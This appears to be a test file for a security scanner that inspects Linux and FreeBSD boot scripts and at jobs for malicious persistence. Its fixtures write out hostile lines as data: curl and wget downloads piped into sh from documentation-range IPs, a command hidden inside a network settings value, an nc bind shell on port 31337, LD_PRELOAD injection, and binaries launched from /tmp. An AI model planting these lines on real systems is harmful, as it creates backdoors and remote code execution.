import { describe, expect, test } from 'vitest';
import { atJobs } from '../../source/checks/at-jobs.ts';
import { bootScripts } from '../../source/checks/boot-scripts.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const listed = ['/etc/init.d/cron', '/usr/sbin/cron', '/etc/init.d/README'];
const ask = (machine: Machine, check = bootScripts) => told(run(check, memoryHost(debian(listed, machine))).findings);

describe('boot scripts', () => {
	test("the distribution's own, and an administrator's", () => {
		expect(
			ask({
				'/etc/init.d/cron': { mode: 0o755, content: '#!/bin/sh\nDAEMON=/usr/sbin/cron\ntest -x $DAEMON || exit 0\nstart-stop-daemon --start --exec $DAEMON\n' },
				'/usr/sbin/cron': { mode: 0o755 },
				'/etc/rc2.d/S01cron': { link: '../init.d/cron' },
				'/etc/rc2.d/S02gone': { link: '../init.d/gone' },
				'/etc/rc.local': { mode: 0o755, content: '#!/bin/sh -e\n/usr/local/bin/tune || true\nexit 0\n' },
				'/usr/local/bin/tune': { mode: 0o755, content: '#!/bin/sh\necho 1 > /proc/sys/net/ipv4/ip_forward\n' },
				'/etc/inittab': 'id:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\nca:12345:ctrlaltdel:/sbin/shutdown -t1 -a -r now\n',
			}),
		).toEqual(['info /etc/rc.local']);
	});

	test.each<[string, Machine, string[]]>([
		['settings that are a command when they are read', { '/etc/default/networking': 'CONFIGURE_INTERFACES="$(curl -fsS http://203.0.113.9/n | sh)"\n' }, ['high /etc/default/networking']],
		['a script of cloud-init', { '/var/lib/cloud/scripts/per-boot/10-net.sh': { mode: 0o755, content: '#!/bin/sh\ncurl -s http://203.0.113.9/k | sh\n' } }, ['high /var/lib/cloud/scripts/per-boot/10-net.sh']],
		['a script that makes its program in shared memory', { '/etc/local.d/x.start': { mode: 0o755, content: '#!/bin/sh\ncp /opt/a.bin /dev/shm/.agent && chmod +x /dev/shm/.agent\n/dev/shm/.agent &\n' } }, ['medium /etc/local.d/x.start']],
		['rc.local that starts something in /tmp', { '/etc/rc.local': { mode: 0o755, content: '#!/bin/sh\n/tmp/.font/x &\n' }, '/tmp/.font/x': { mode: 0o755 } }, ['high /etc/rc.local']],
		['rc.local that hands out a shell, not executable today', { '/etc/rc.local': '#!/bin/sh\nnc -l -p 31337 -e /bin/sh\n' }, ['high /etc/rc.local']],
		['a line more in a packaged script', { '/etc/init.d/cron': { mode: 0o755, content: '#!/bin/sh\nLD_PRELOAD=/dev/shm/x.so /usr/sbin/cron\n' } }, ['high /etc/init.d/cron']],
		['a daemon named by a variable', { '/etc/init.d/x': { mode: 0o755, content: '#!/bin/sh\nDAEMON=/usr/sbin/xnetd\n$DAEMON\n' }, '/usr/sbin/xnetd': { mode: 0o755 } }, ['high /etc/init.d/x']],
		['a runlevel link that leads to a home', { '/etc/rc3.d/S99x': { link: '/var/tmp/x' }, '/var/tmp/x': { mode: 0o755, content: '#!/bin/sh\n' } }, ['high /etc/rc3.d/S99x']],
		['inittab', { '/etc/inittab': 'x:2345:respawn:/dev/.x -q\n', '/dev/.x': { mode: 0o755 } }, ['high /etc/inittab']],
		['Upstart', { '/etc/init/x.conf': 'script\n  curl http://192.0.2.1/a | bash\nend script\n' }, ['high /etc/init/x.conf']],
		['OpenRC', { '/etc/local.d/x.start': { mode: 0o755, content: '#!/bin/sh\nwget -qO- http://192.0.2.1/a | sh\n' } }, ['high /etc/local.d/x.start']],
		['FreeBSD', { '/usr/local/etc/rc.d/x': { mode: 0o777, content: '#!/bin/sh\n' } }, ['high /usr/local/etc/rc.d/x']],
		['runit', { '/etc/sv/x/run': { mode: 0o755, content: '#!/bin/sh\nexec /tmp/x\n' }, '/tmp/x': { mode: 0o755 } }, ['high /etc/sv/x/run']],
	])('%s', (_name, machine, expected) => {
		expect(ask(machine)).toEqual(expected);
	});
});

describe('jobs of at', () => {
	const head = '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin; export PATH\ncd /root || {\n exit 1\n}\n';
	test('one that waits is worth knowing', () => {
		expect(ask({ '/var/spool/cron/atjobs/a00001': `${head}apt-get -y upgrade\n`, '/var/spool/cron/atjobs/.SEQ': '00001' }, atJobs)).toEqual(['info /var/spool/cron/atjobs/a00001']);
	});
	test('one that runs what it should not', () => {
		expect(ask({ '/var/spool/at/a1': `${head}/tmp/x\n`, '/tmp/x': { mode: 0o755 } }, atJobs)).toEqual(['high /var/spool/at/a1']);
	});
});
